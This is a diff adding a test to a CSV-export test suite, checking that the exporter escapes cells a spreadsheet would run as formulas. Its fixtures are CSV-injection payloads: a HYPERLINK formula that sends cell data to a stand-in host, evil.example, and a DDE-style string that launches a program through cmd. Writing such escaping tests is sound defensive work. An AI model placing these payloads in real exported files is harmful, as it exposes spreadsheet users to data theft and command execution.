@@ -60,4 +60,16 @@ describe('CSV export', () => {
     const rows = parseCsv(differentialToCsv(report))
     expect(rows.filter((r) => r[0] === 'comment').map((r) => r[1])).toEqual(['He said "recheck", then left\nearly'])
   })
+
+  it('neutralises sample ids, comments and names a spreadsheet would run as formulas', () => {
+    const report = sampleReport(true)
+    report.sample.sampleId = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    report.comments = ['@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '\t=1']
+    report.signOff = { ...report.signOff!, reviewer: '+Dr. Lee' }
+    const rows = parseCsv(differentialToCsv(report))
+    expect(rows.find((r) => r[0] === 'sample_id')?.[1]).toBe(`'${report.sample.sampleId}`)
+    expect(rows.find((r) => r[0] === 'reviewer')?.[1]).toBe("'+Dr. Lee")
+    expect(rows.filter((r) => r[0] === 'comment').map((r) => r[1])).toEqual(report.comments.map((c) => `'${c}`))
+    for (const r of rows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+  })
 })
